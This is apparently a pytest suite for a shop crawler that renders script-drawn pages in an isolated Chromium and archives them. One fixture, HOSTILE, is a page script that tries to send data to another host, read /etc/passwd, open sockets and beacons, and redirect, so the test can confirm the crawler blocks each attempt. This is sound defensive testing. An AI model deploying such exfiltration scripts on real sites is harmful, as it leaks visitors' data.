"""Shops that scripts draw: found, drawn in a real browser without a network of its own, stored, and read from there."""

import json
import os
import signal
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import browsers
import pytest

from spiders.crawling import CrawlResult
from spiders.evidence import read_pages, verify
from spiders.evidence.records import records
from spiders.reading import read_page
from spiders.spool import read_spool

Crawl = Callable[..., CrawlResult]

LIST = """
<html><head><title>Каталог</title></head><body><div id="app"></div><script src="/app.js"></script></body></html>
"""
APP = """
const app = document.getElementById("app");
const card = (g) => `<div class="card"><a class="name" href="/goods/${g.id}">${g.name}</a>
  <span class="price">${g.price} ₽</span><span class="stock">В наличии</span></div>`;
async function more(from) {
  const found = await (await fetch(`/api/goods?from=${from}`)).json();
  document.querySelector(".goods").insertAdjacentHTML("beforeend", found.goods.map(card).join(""));
  return found.next;
}
async function product(id) {
  const g = await (await fetch(`/api/goods/${id}`)).json();
  app.innerHTML = `<h1>${g.name}</h1><p>Артикул: ${g.sku}</p><p class="price">${g.price} ₽</p><p>В наличии</p>
    <button>Купить</button>`;
}
const one = location.pathname.match(/^\\/goods\\/(\\d+)$/);
if (one) product(one[1]);
else {
  app.innerHTML = '<h1>Коммутаторы</h1><div class="goods"></div><button id="more">Показать ещё</button>';
  let next = 0;
  const button = document.getElementById("more");
  button.onclick = async () => { next = await more(next); if (next === null) button.remove(); };
  setTimeout(() => button.onclick(), 400);
}
"""


def good(number: int) -> dict[str, object]:
    return {"id": number, "name": f"Коммутатор Cisco WS-C2960-{number}", "sku": f"A-{number}", "price": 1000 + number}


def data(answer: Any, value: object) -> Any:
    return answer(json.dumps(value), headers={"Content-Type": "application/json"})


@pytest.fixture
def drawn(shop: Any, answer: Any) -> Any:
    """A shop of nine goods; its front page draws four at a time at the press of a button."""
    shop.pages["/"] = LIST
    shop.pages["/app.js"] = answer(APP, headers={"Content-Type": "text/javascript"})
    for start in (0, 4, 8):
        goods = [good(number) for number in range(start, min(start + 4, 9))]
        shop.pages[f"/api/goods?from={start}"] = data(
            answer, {"goods": goods, "next": start + 4 if start < 8 else None}
        )
    for number in range(9):
        shop.pages[f"/goods/{number}"] = LIST
        shop.pages[f"/api/goods/{number}"] = data(answer, good(number))
    return shop


@pytest.fixture(autouse=True)
def own(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    """The folder for temporary files of this test alone, by which its browsers are known among those of other tests;
    none is left when it ends. Its name is short, since a browser's sockets lie there."""
    with TemporaryDirectory(prefix="r-") as folder:
        monkeypatch.setattr(tempfile, "tempdir", folder)
        yield folder
        assert browsers_running(folder) == set()


def browsers_running(own: str) -> set[int]:
    found = set()
    for folder in Path("/proc").iterdir():
        try:
            if folder.name.isdigit() and f"{own}/" in (folder / "cmdline").read_text(errors="replace"):
                found.add(int(folder.name))
        except OSError:
            continue
    return found


def titles(result: CrawlResult) -> set[str]:
    return {row.title for row in read_spool(result.spool)}


def test_a_shop_that_scripts_draw_is_captured_whole(drawn: Any, crawl: Crawl, job: Any, tmp_path: Path) -> None:
    result = crawl(browser=browsers.chromium(), timeout=20.0)
    outcome = result.outcome
    assert (outcome.reason, outcome.failed_products, outcome.failed_lists) == (None, {}, {})
    assert outcome.pages == {"list": 1, "product": 9}
    rows = list(read_spool(result.spool))
    assert {(row.sku, row.price) for row in rows if row.sku} == {(f"A-{n}", f"{1000 + n} ₽") for n in range(9)}
    # Each page and script was asked for once, by us and not by the browser.
    assert sorted(drawn.paths()) == sorted({*drawn.paths()})
    assert all(headers["user-agent"].startswith("restock/") for _, _, headers in drawn.requests)
    warc = tmp_path / "evidence" / result.warc
    assert verify(warc, unfinished_ok=False) == []
    site = job().site
    again = [row for page in read_pages(warc) for row in read_page(page, site).listings]
    assert sorted(again, key=repr) == sorted(rows, key=repr)
    kinds = {(record.kind, record.headers.get("restock-role")) for record in records(warc)}
    assert {("conversion", "start"), ("conversion", "product"), ("response", "start"), ("response", "part")} <= kinds


HOSTILE = """
<html><head><title>Каталог</title></head><body><div id="app"></div>
<script src="http://{other}/evil.js"></script><link rel="preconnect" href="http://{other}/">
<script>
const tell = (word) => document.body.insertAdjacentHTML("beforeend", `<p>${{word}}</p>`);
fetch("http://{other}/stolen?" + document.title).then(() => tell("away")).catch(() => tell("kept"));
fetch("/hop").then((r) => r.text()).then((t) => tell("hop " + t)).catch(() => tell("hop kept"));
fetch("file:///etc/passwd").then(() => tell("file")).catch(() => 0);
try {{ new WebSocket("ws://{other}/ws"); }} catch (e) {{ tell("no socket"); }}
navigator.sendBeacon("http://{other}/beacon", "x");
new Image().src = "http://{other}/pixel.gif";
window.open("http://{other}/window");
for (const where of ["http://{other}/frame", "/private/"]) {{
  document.body.insertAdjacentHTML("beforeend", `<iframe src="${{where}}"></iframe>`);
}}
alert("Привет");
document.getElementById("app").innerHTML = '<h1>Коммутаторы</h1>' + [1, 2].map((n) =>
  `<div class="card"><a href="/goods/${{n}}">Коммутатор Cisco A-${{n}}</a>
  <span class="price">1 000 ₽</span></div>`).join("");
setTimeout(() => {{ location.href = "http://{other}/gone"; }}, 100);
</script></body></html>
"""


def test_a_page_in_the_browser_reaches_no_other_host(
    shop: Any, other_shop: Any, answer: Any, crawl: Crawl, tmp_path: Path
) -> None:
    other = other_shop.url.split("/")[2]
    shop.pages["/"] = HOSTILE.format(other=other)
    shop.pages["/hop"] = answer(status=302, headers={"Location": f"http://{other}/secret"})
    shop.pages["/robots.txt"] = "User-agent: *\nDisallow: /private/\n"
    shop.product(1)
    shop.product(2)
    result = crawl(browser=browsers.chromium(), timeout=20.0)
    assert other_shop.paths() == []
    assert "/private/" not in shop.paths()
    assert result.outcome.reason is None
    page = next(page for page in read_pages(tmp_path / "evidence" / result.warc) if page.drawn)
    shown = page.body.decode()
    assert "<p>kept</p>" in shown
    assert "<p>hop kept</p>" in shown
    notes = "\n".join(result.outcome.notes)
    assert f"script of {other} (off-site)" in notes
    assert f"its scripts would have gone on to http://{other}/gone" in notes


@pytest.mark.parametrize(
    ("script", "reason"),
    [
        ("while (true) {}", "not drawn within"),
        ("setInterval(() => document.body.append('x'.repeat(100000)), 1)", "cut off"),
    ],
)
def test_a_script_without_end_is_cut_off_and_the_crawl_goes_on(
    shop: Any, crawl: Crawl, script: str, reason: str
) -> None:
    shop.list_page("/", range(3), '<a href="/catalog/endless">Ещё товары</a>')
    shop.pages["/catalog/endless"] = f'<html><body><div id="app"></div><script>{script}</script></body></html>'
    result = crawl(browser=browsers.chromium(), timeout=20.0, page_seconds=4.0)
    assert len(titles(result)) == 3
    assert reason in " ".join(result.outcome.failed_lists.values()), result.outcome


def test_a_list_that_never_ends_is_drawn_up_to_a_bound(shop: Any, answer: Any, crawl: Crawl) -> None:
    shop.pages["/"] = """<html><body><div id="app" style="min-height: 3000px"></div><script>
      let next = 0;
      const draw = () => { for (let i = 0; i < 5; i++, next++) {
        document.getElementById("app").insertAdjacentHTML("beforeend", `<div class="card">
          <a href="/goods/${next}">Коммутатор Cisco WS-C2960-${next}</a><p class="price">1 000 ₽</p></div>`);
      } };
      draw(); window.addEventListener("scroll", () => setTimeout(draw, 50));</script></body></html>"""
    result = crawl(site={"listings": "cards"}, browser=browsers.chromium(), timeout=20.0, page_seconds=5.0)
    assert len(titles(result)) > 10
    assert not result.outcome.finished or result.outcome.failed_lists
    assert any("drawn up to a bound only" in note for note in result.outcome.notes)


def test_an_endless_list_that_is_all_in_view_is_drawn_to_its_end(shop: Any, crawl: Crawl) -> None:
    """Its script waits for the list's end to come into sight, and it never left."""
    shop.pages["/"] = """<html><body><h1>Коммутаторы</h1><div id="app"></div><div id="end">&nbsp;</div><script>
      let next = 0;
      const draw = () => { for (const last = Math.min(9, next + 3); next < last; next += 1) {
        document.getElementById("app").insertAdjacentHTML("beforeend", `<div class="card">
          <a href="/goods/${next}">Коммутатор Cisco WS-C2960-${next}</a><span class="price">1 000 ₽</span></div>`);
      } };
      draw(); const end = document.getElementById("end");
      new IntersectionObserver((seen) => seen[0].isIntersecting && draw()).observe(end);
      </script></body></html>"""
    result = crawl(site={"listings": "cards"}, browser=browsers.chromium(), timeout=20.0)
    assert (result.outcome.reason, len(titles(result))) == (None, 9)


def test_pages_that_a_script_turns_are_all_read(shop: Any, crawl: Crawl, job: Any, tmp_path: Path) -> None:
    """The first goods are there without a script; a button puts the next ones in their place."""
    card = '<div class="card"><a href="/goods/{n}">Коммутатор Cisco WS-C2960-{n}</a><p class="price">1 000 ₽</p></div>'
    shop.pages["/"] = f"""<html><body><h1>Коммутаторы</h1><p>Всего 8 товаров</p>
      <div id="goods">{"".join(card.format(n=n) for n in range(3))}</div>
      <div class="pagination"><span class="active">1</span><span>2</span><span>3</span></div><script>
      for (const one of document.querySelectorAll(".pagination span")) one.onclick = () => {{
        document.querySelector(".pagination .active").className = ""; one.className = "active";
        const start = 3 * (Number(one.textContent) - 1);
        document.getElementById("goods").innerHTML = [0, 1, 2].map((n) => start + n).filter((n) => n < 8).map((n) =>
          `{card}`.replaceAll("{{n}}", n)).join("");
      }};</script></body></html>"""
    cards_only = {"listings": "cards"}
    result = crawl(site=cards_only, browser=browsers.chromium(), timeout=20.0)
    assert (result.outcome.reason, result.outcome.failed_lists) == (None, {})
    assert len(titles(result)) == 8
    assert result.outcome.lists == {shop.key(): 8}
    site = job(site=cards_only).site
    again = [row for page in read_pages(tmp_path / "evidence" / result.warc) for row in read_page(page, site).listings]
    assert sorted(again, key=repr) == sorted(read_spool(result.spool), key=repr)


def test_without_a_browser_it_is_said_once_and_clearly(drawn: Any, crawl: Crawl) -> None:
    outcome = crawl(browser="/no/such/browser").outcome
    assert not outcome.finished
    assert "drawn by scripts, and no browser is installed" in (outcome.reason or "")


def test_a_site_that_says_never_is_not_drawn(drawn: Any, crawl: Crawl) -> None:
    crawl(site={"browser": "never"}, browser=browsers.chromium())
    assert "/app.js" not in drawn.paths()


def test_an_answer_that_fails_makes_the_list_a_failed_one(drawn: Any, answer: Any, crawl: Crawl) -> None:
    drawn.pages["/api/goods?from=4"] = answer("broken", 500)
    outcome = crawl(browser=browsers.chromium(), timeout=20.0, retries=0).outcome
    assert not outcome.finished or outcome.failed_lists
    assert any("the page lacks an answer: answered 500" in note for note in outcome.notes)


def test_a_browser_that_dies_is_replaced(drawn: Any, crawl: Crawl, own: str) -> None:
    """Killed once in the middle of the crawl, by a page's request."""
    goods = drawn.pages["/api/goods/3"]

    killed: set[int] = set()

    def kill(asked: int) -> Any:
        if asked == 1:
            killed.update(browsers_running(own))
            for process in killed:
                os.kill(process, signal.SIGKILL)
        return goods

    drawn.pages["/api/goods/3"] = kill
    result = crawl(browser=browsers.chromium(), timeout=20.0)
    assert killed
    assert len(titles(result)) == 9
